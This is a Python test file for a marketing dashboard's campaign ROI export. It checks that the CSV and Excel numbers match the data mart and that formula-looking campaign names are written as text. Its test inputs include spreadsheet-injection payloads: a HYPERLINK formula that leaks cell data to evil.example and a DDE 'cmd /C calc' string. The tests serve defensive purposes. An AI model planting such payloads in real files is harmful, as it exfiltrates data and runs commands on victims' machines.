"""The campaign ROI report users download: same numbers as the mart, formulas made inert."""

import datetime as dt
import io
import zipfile

import duckdb
import polars as pl
import pytest

from dashboards import report
from pipelines.lib.settings import Settings
from tests.dashboards.mart_docs import mart_docs

START, END = dt.date(2026, 9, 1), dt.date(2026, 9, 30)
FORMATS = {c: d.get("format", "") for c, d in mart_docs("campaign_roi").items()}


def expected_from_mart(path, ad_platforms: list[str]) -> dict[str, dict]:
    """The report's rows computed in SQL straight from marts.campaign_roi."""
    with duckdb.connect(str(path), read_only=True) as con:
        frame = con.execute(
            """
            select campaign_id, sum(spend) as spend, sum(clicks) as clicks,
                   sum(impressions) as impressions, sum(attributed_revenue) as revenue,
                   sum(attributed_gross_profit) as profit, sum(new_customers) as new_customers
            from marts.campaign_roi
            where date between ? and ? and list_contains(?, ad_platform)
            group by campaign_id
            """,
            [START, END, ad_platforms],
        ).pl()
    frame = frame.with_columns(pl.exclude("campaign_id").cast(pl.Float64))
    return {row["campaign_id"]: row for row in frame.iter_rows(named=True)}


def test_the_report_matches_the_mart_for_the_chosen_filters(demo_build: Settings, monkeypatch):
    from dashboards import data

    monkeypatch.setenv("SHOPKPI_HOME", str(demo_build.home))
    chosen = ["alimama", "google_ads"]
    days = data.campaign_days(START, END).filter(pl.col("ad_platform").is_in(chosen))
    summary = report.campaign_summary(days, mart_docs("campaign_roi"))
    headers = {c: c for c in report.REPORT_COLUMNS}
    from_csv = pl.read_csv(io.BytesIO(report.to_csv(summary, headers)[3:]))
    from_xlsx = pl.read_excel(
        report.to_xlsx(summary, headers, [("period", "x")], FORMATS), sheet_name="campaign_roi"
    )
    expected = expected_from_mart(demo_build.published, chosen)
    assert summary.height == len(expected) > 3
    for frame in (from_csv, from_xlsx):
        assert set(frame["ad_platform"]) == set(chosen)
        for row in frame.iter_rows(named=True):
            want = expected[row["campaign_id"]]
            spend = want["spend"]
            assert row["spend"] == pytest.approx(spend, abs=0.005)
            assert row["clicks"] == want["clicks"]
            assert row["ctr"] == ratio(want["clicks"], want["impressions"])
            assert row["cpc"] == ratio(spend, want["clicks"])
            assert row["roas"] == ratio(want["revenue"], spend)
            assert row["roi"] == ratio(want["profit"] - spend, spend)
            assert row["cac"] == ratio(spend, want["new_customers"])


def ratio(numerator: float, denominator: float):
    """What the report must say: the ratio of the sums, None (empty cell) when dividing by 0."""
    return None if not denominator else pytest.approx(numerator / denominator, rel=1e-6)


def campaign_days_with(name: str) -> pl.DataFrame:
    return pl.DataFrame(
        {
            "date": [START, START + dt.timedelta(days=1)],
            "ad_platform": ["meta_ads", "meta_ads"],
            "campaign_id": ["X1", "X1"],
            "campaign_name": [name, name],
            "spend": [10.0, 30.0], "impressions": [1000, 3000], "clicks": [10, 30],
            "attributed_orders": [1, 0], "attributed_revenue": [50.0, 0.0],
            "attributed_gross_profit": [20.0, 0.0], "new_customers": [0, 0],
        }
    )  # fmt: skip


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
     "@SUM(A1:A9)", "\t=1+1"],
)  # fmt: skip
def test_formula_looking_campaign_names_come_out_as_text(name: str) -> None:
    summary = report.campaign_summary(campaign_days_with(name), mart_docs("campaign_roi"))
    assert summary["roas"][0] == pytest.approx(50 / 40)  # ratio of the period's sums
    assert summary["cac"][0] is None  # no new customers: NULL, not 0 or an error
    headers = {c: c for c in report.REPORT_COLUMNS}

    csv_text = report.to_csv(summary, headers).decode("utf-8-sig")
    cell = pl.read_csv(io.StringIO(csv_text))["campaign_name"][0]
    assert cell == "'" + name

    xlsx = report.to_xlsx(summary, headers, [("campaign", name)], FORMATS)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in sheet for sheet in sheets), "a cell was written as a formula"
    assert pl.read_excel(xlsx, sheet_name="campaign_roi")["campaign_name"][0] == "'" + name
    assert "&apos;" in strings or "'" in strings


def test_plain_names_are_left_alone() -> None:
    assert report.make_inert("直通车-核心词") == "直通车-核心词"
    assert report.make_inert("Search - Brand") == "Search - Brand"
    assert report.make_inert(None) is None
